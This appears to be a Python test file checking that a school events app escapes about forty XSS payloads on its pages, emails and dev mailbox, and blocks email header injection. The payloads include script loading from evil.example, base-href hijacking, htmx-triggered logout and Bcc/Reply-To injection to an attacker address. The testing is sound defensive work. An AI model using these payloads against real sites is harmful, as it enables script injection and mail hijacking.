"""Event text full of HTML and script is shown as text everywhere staff and parents see it.

Each payload goes in as an event's title, description and location through the API. Every page
that shows event text (the events list, the event, the jobs list and job, the queue dashboard,
the development mailbox and each message in it) must show it escaped, and so must both parts of
the email. Then Chromium opens those pages, once with the Content-Security-Policy switched off so
that escaping alone is tested, and nothing may run.
"""
from types import SimpleNamespace

import pytest
from markupsafe import escape

from school.notify.letter import Letter
from school.notify.transport import one_line
from tests.support.browser import Watch, log_in
from tests.support.pages import parse
from tests.support.school import TEACHERS

pytestmark = pytest.mark.slow

# Classic payloads. Each calls alert() or sets window.__xss if it ever runs.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__xss=1">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<a href="javascript:alert(1)">click me</a>',
    '"><script>alert(1)</script>',
    "'><script>window.__xss=1</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '</pre><img src=x onerror="window.__xss=1">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=window.__xss=1>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<form action="javascript:alert(1)"><button>Go</button></form>',
    '" onmouseover="alert(1)" x="',
    "' onfocus='window.__xss=1' autofocus='",
    '<div hx-post="/logout" hx-trigger="load">htmx would log you out</div>',
    '<button hx-get="/" hx-trigger="load" hx-on::after-request="window.__xss=1">x</button>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template><img src=x onerror=window.__xss=1>",
    "{{ 7*7 }} {% raw %}${alert(1)}",
    "javascript:alert(1)",
]
CHUNK = 10  # the dashboard lists ten jobs in progress; check ten payloads at a time


def test_the_payload_list_is_long_enough():
    assert len(set(PAYLOADS)) >= 30


def assert_shown_escaped(html: str, payload: str, where: str) -> None:
    assert str(escape(payload)) in html, f"{where} does not show {payload!r}"
    if str(escape(payload)) != payload:  # it has markup to escape: then it must never appear raw
        assert payload not in html, f"{where} shows {payload!r} unescaped"


def store_email(school, event, job_id) -> str:
    """What the development SMTP server would store for one recipient of this event."""
    from school.dev.mailbox import mailbox_dir, store

    recipient = SimpleNamespace(id=1, email="parent@example.org", name="A Parent", children="Sam Parent")
    with school.app.app_context():
        message = Letter(event, job_id).message(recipient).as_bytes()
        return store(mailbox_dir(school.app.config), message, "notices@example.org", [recipient.email])


@pytest.fixture
def school(make_school):
    school = make_school(students=12)
    school.admin_client = school.admin().client
    return school


def create_events(school, payloads) -> list[dict]:
    made = []
    for payload in payloads:
        created = school.create_event(TEACHERS, title=payload,
                                      description=f"{payload}\nSecond line {payload}", location=payload)
        made.append({**created, "payload": payload})
    return made


def pages_for(school, made) -> dict[str, str]:
    from school.events.models import Event
    from school.extensions import db

    get = school.admin_client.get
    pages = {"events list": get("/").get_data(as_text=True), "jobs list": get("/jobs").get_data(as_text=True),
             "queue dashboard": get("/admin/queue").get_data(as_text=True)}
    for item in made:
        pages[f"event {item['event_id']}"] = get(f"/events/{item['event_id']}").get_data(as_text=True)
        pages[f"job {item['job_id']}"] = get(f"/jobs/{item['job_id']}").get_data(as_text=True)
        with school.app.app_context():
            event = db.session.get(Event, item["event_id"])
            db.session.expunge(event)
        item["mail"] = store_email(school, event, item["job_id"])
        pages[f"mailbox message of job {item['job_id']}"] = get(f"/dev/mailbox/{item['mail']}").get_data(as_text=True)
    pages["mailbox"] = get("/dev/mailbox").get_data(as_text=True)
    return pages


def test_every_page_shows_the_payloads_escaped(school):
    for start in range(0, len(PAYLOADS), CHUNK):
        made = create_events(school, PAYLOADS[start:start + CHUNK])
        pages = pages_for(school, made)
        for item in made:
            payload = item["payload"]
            for name in ("events list", "jobs list", "queue dashboard", f"event {item['event_id']}",
                         f"job {item['job_id']}"):
                assert_shown_escaped(pages[name], payload, name)
            # The mailbox shows the subject as the header carried it: on one line.
            assert_shown_escaped(pages["mailbox"], one_line(payload), "the mailbox")
            message_page = pages[f"mailbox message of job {item['job_id']}"]
            assert_shown_escaped(message_page, payload, "the mailbox message")
            # Its HTML part sits, escaped once more, in a sandboxed iframe's srcdoc.
            frame = parse(message_page).by_id("html-part")
            assert frame.attrs["sandbox"] == ""
            assert_shown_escaped(frame.attrs["srcdoc"], payload, "the HTML part in the mailbox")


def test_both_parts_of_the_email_show_the_payloads_as_text(school):
    from school.events.models import Event
    from school.extensions import db

    made = create_events(school, PAYLOADS)
    with school.app.app_context():
        for item in made:
            payload = item["payload"]
            event = db.session.get(Event, item["event_id"])
            message = Letter(event, item["job_id"]).message(SimpleNamespace(
                id=7, email="parent@example.org", name="A Parent", children="Sam Parent"))
            assert payload in message.body  # plain text: the characters themselves, nothing to interpret
            assert_shown_escaped(message.html, payload, "the HTML part")


@pytest.mark.parametrize("title", [
    "Parents' evening\r\nBcc: attacker@evil.example",
    "Parents' evening\nX-Injected: yes\n\nA new body",
    "Parents' evening\rReply-To: attacker@evil.example",
    "Parents' evening\u2028Bcc: attacker@evil.example",
])
def test_a_title_with_line_breaks_adds_no_header(school, title):
    from email import message_from_bytes, policy

    from school.events.models import Event

    event = Event(id=1, title=title, description="", location="", priority="normal",
                  starts_at=None, ends_at=None, audience={})
    recipient = SimpleNamespace(id=1, email="parent@example.org", name="A Parent\r\nCc: attacker@evil.example",
                                children="")
    with school.app.test_request_context():
        from datetime import datetime, timezone

        event.starts_at = event.ends_at = datetime(2031, 3, 12, 18, tzinfo=timezone.utc)
        raw = Letter(event, 3).message(recipient).as_bytes()
    parsed = message_from_bytes(raw, policy=policy.default)
    names = [name.lower() for name in parsed.keys()]
    assert "bcc" not in names and "cc" not in names and "x-injected" not in names and "reply-to" not in names
    assert names.count("subject") == 1
    assert parsed["Subject"] == one_line(title)
    assert [address.addr_spec for address in parsed["To"].addresses] == ["parent@example.org"]


# --- in Chromium ------------------------------------------------------------------------------

def visit(page, url: str) -> None:
    page.goto(url)
    page.wait_for_load_state("networkidle")  # let onload, onerror, autofocus and htmx's triggers fire


def test_no_payload_runs_in_chromium(school, chromium, live_server):
    made = create_events(school, PAYLOADS)
    last = made[-CHUNK:]
    pages_for(school, last)  # stores their mailbox messages too
    server = live_server(school.app)
    lists = ["/", "/jobs", "/admin/queue", "/dev/mailbox"]
    details = [f"/jobs/{item['job_id']}" for item in last] + [f"/dev/mailbox/{item['mail']}" for item in last]
    # Escaping alone must stop every payload, so first the policy is switched off (every event's
    # page); then again with it on, as staff use the site.
    runs = {True: lists + [f"/events/{item['event_id']}" for item in made] + details,
            False: lists + [f"/events/{item['event_id']}" for item in last] + details}
    for bypass_csp, urls in runs.items():
        context = chromium.browser.new_context(bypass_csp=bypass_csp)
        page = context.new_page()
        watch = Watch().attach(page)
        log_in(page, server.url)
        for url in urls:
            visit(page, server.url + url)
            assert page.evaluate("window.__xss") is None, f"a payload ran on {url}"
            assert "/login" not in page.url, f"{url}: a payload logged the admin out"
        assert watch.dialogs == [], watch.dialogs
        # Escaped payloads are text: with the policy on, nothing even tries to break it.
        assert watch.csp_violations == [], watch.csp_violations

        # The detectors work: payloads left unescaped on a page of their own do run and are seen.
        page.goto("about:blank")
        page.set_content('<img src=x onerror="window.__xss=1"><script>alert("ran")</script>')
        page.wait_for_function("window.__xss === 1")
        assert watch.dialogs == ["ran"]
        context.close()
